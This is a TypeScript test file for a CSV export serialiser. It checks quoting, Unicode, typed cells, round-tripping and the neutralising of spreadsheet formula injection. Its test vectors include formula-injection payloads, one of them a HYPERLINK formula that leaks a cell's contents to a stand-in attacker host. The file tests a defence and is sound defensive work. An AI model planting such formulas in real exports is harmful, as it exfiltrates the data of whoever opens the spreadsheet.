import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  csvHeader,
  csvRecord,
  formatCsvCell,
  neutraliseCsvText,
  toCsv,
  unneutraliseCsvText,
  UTF8_BOM,
  segmentedCsvRowWriter,
  jsonRowWriter,
  type CsvColumn,
} from '@/lib/export/csv';
import { zodForColumn } from '@/lib/export/parse';

interface Row {
  label: string | null;
  net: number | null;
}

const columns: CsvColumn<Row>[] = [
  { name: 'label', type: 'string', nullable: true, description: 'a label', get: (r) => r.label },
  { name: 'net', type: 'number', nullable: true, description: 'a net', get: (r) => r.net },
];

const VECTORS = ['=1+1', '+cmd', '-2+3', '@SUM(A1)', '\t=x', '\r=x', '=HYPERLINK("http://evil.example/?leak="&A1,"click")'];

describe('CSV serialiser', () => {
  it.each(VECTORS)('neutralises the formula-injection vector %j with a leading quote', (vector) => {
    const cell = formatCsvCell(vector);
    const parsed = Papa.parse<string[]>(`${cell}\r\n`).data[0]?.[0];
    expect(parsed).toBe(`'${vector}`);
    expect(parsed?.[0]).toBe("'");
  });

  it('writes the exact bytes for each vector (quoting only where RFC 4180 requires it)', () => {
    expect(formatCsvCell('=1+1')).toBe("'=1+1");
    expect(formatCsvCell('+cmd')).toBe("'+cmd");
    expect(formatCsvCell('-2+3')).toBe("'-2+3");
    expect(formatCsvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(formatCsvCell('\t=x')).toBe("'\t=x");
    expect(formatCsvCell('\r=x')).toBe('"\'\r=x"');
    expect(formatCsvCell('=HYPERLINK("http://a.example","b")')).toBe('"\'=HYPERLINK(""http://a.example"",""b"")"');
  });

  it('keeps numbers numeric: a net of -3 stays -3, only text is neutralised', () => {
    expect(formatCsvCell(-3)).toBe('-3');
    expect(formatCsvCell(-0.5)).toBe('-0.5');
    expect(formatCsvCell('-3')).toBe("'-3");
    expect(toCsv(columns, [{ label: 'Net', net: -3 }])).toBe('label,net\r\nNet,-3\r\n');
    expect(formatCsvCell(Number.NaN)).toBe('');
    expect(formatCsvCell(Number.POSITIVE_INFINITY)).toBe('');
  });

  it('quotes commas, quotes and line breaks, doubles quotes and ends rows with CRLF', () => {
    expect(csvRecord(['a,b', 'say "hi"', 'line1\nline2', 'cr\rhere', 'plain'])).toBe('"a,b","say ""hi""","line1\nline2","cr\rhere",plain\r\n');
    const text = toCsv(columns, [
      { label: 'two\r\nlines, "quoted"', net: 1 },
      { label: null, net: null },
    ]);
    expect(text).toBe('label,net\r\n"two\r\nlines, ""quoted""",1\r\n,\r\n');
    const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(parsed).toEqual([
      ['label', 'net'],
      ['two\r\nlines, "quoted"', '1'],
      ['', ''],
    ]);
  });

  it('writes null and undefined as empty cells, never as 0 or "null"', () => {
    expect(csvRecord([null, undefined, 0, ''])).toBe(',,0,\r\n');
  });

  it('passes unicode through unchanged (Cyrillic, Japanese, emoji)', () => {
    const values = ['Левада-Центр', '北方領土', '🗳️ poll 👍🏽', 'Курилы, 南千島'];
    const text = toCsv(
      [{ name: 'v', type: 'string', nullable: false, description: '', get: (r: { v: string }) => r.v }],
      values.map((v) => ({ v })),
    );
    expect(text).toBe('v\r\nЛевада-Центр\r\n北方領土\r\n🗳️ poll 👍🏽\r\n"Курилы, 南千島"\r\n');
    const back = Papa.parse<string[]>(text, { skipEmptyLines: true })
      .data.slice(1)
      .map((r) => r[0]);
    expect(back).toEqual(values);
    expect(Buffer.from(text, 'utf8').toString('utf8')).toBe(text);
  });

  it('prefixes the UTF-8 BOM only when asked', () => {
    expect(toCsv(columns, [], { bom: true })).toBe(`${UTF8_BOM}label,net\r\n`);
    expect(Buffer.from(toCsv(columns, [], { bom: true }), 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(toCsv(columns, [])).toBe('label,net\r\n');
  });

  it('formats typed columns: dates, datetimes, booleans and URL lists', () => {
    const d = new Date(Date.UTC(2018, 10, 22));
    expect(formatCsvCell(d, 'date')).toBe('2018-11-22');
    expect(formatCsvCell(d, 'datetime')).toBe('2018-11-22T00:00:00.000Z');
    expect(formatCsvCell(true)).toBe('true');
    expect(formatCsvCell(['https://a.example/x', 'https://b.example/y'], 'url-list')).toBe('https://a.example/x https://b.example/y');
    expect(csvHeader(columns)).toBe('label,net\r\n');
  });

  it('round-trips every vector through neutralise/unneutralise, including text that already starts with a quote', () => {
    const tricky = [...VECTORS, "'=already", "''=twice", "'plain", 'plain', '', "it's"];
    for (const value of tricky) expect(unneutraliseCsvText(neutraliseCsvText(value))).toBe(value);
    expect(neutraliseCsvText("'=already")).toBe("''=already");
    expect(neutraliseCsvText("'plain")).toBe("'plain");
  });

  it('reads typed cells back with the column schemas (the importer path)', () => {
    expect(zodForColumn('string', true).parse("'=1+1")).toBe('=1+1');
    expect(zodForColumn('string', true).parse('')).toBeNull();
    expect(zodForColumn('number', true).parse('-3')).toBe(-3);
    expect(zodForColumn('integer', false).safeParse('1.5').success).toBe(false);
    expect(zodForColumn('string', false).safeParse('').success).toBe(false);
    expect(zodForColumn('date', true).parse('2018-11-28')).toEqual(new Date(Date.UTC(2018, 10, 28)));
    expect(zodForColumn('date', true).safeParse('2018-02-30').success).toBe(false);
    expect(zodForColumn('url-list', false).parse('https://a.example https://b.example')).toEqual(['https://a.example', 'https://b.example']);
    expect(zodForColumn('boolean', false).parse('false')).toBe(false);
  });

  it('formats a cached segment once per key object and the rest per row', () => {
    let calls = 0;
    const poll = { name: 'Levada' };
    type R = { poll: typeof poll; v: number };
    const write = segmentedCsvRowWriter<R>([
      {
        columns: [{ name: 'p', type: 'string', nullable: false, description: '', get: (r) => (calls++, r.poll.name) }],
        key: (r) => r.poll,
      },
      { columns: [{ name: 'v', type: 'number', nullable: false, description: '', get: (r) => r.v }] },
    ]);
    expect([1, 2, 3].map((v) => write({ poll, v })).join('')).toBe('Levada,1\r\nLevada,2\r\nLevada,3\r\n');
    expect(calls).toBe(1);
  });

  it('writes JSON rows with native types and no neutralisation', () => {
    const write = jsonRowWriter(columns);
    expect(JSON.parse(write({ label: '=1+1', net: -3 }))).toEqual({ label: '=1+1', net: -3 });
    expect(JSON.parse(write({ label: null, net: null }))).toEqual({ label: null, net: null });
  });
});
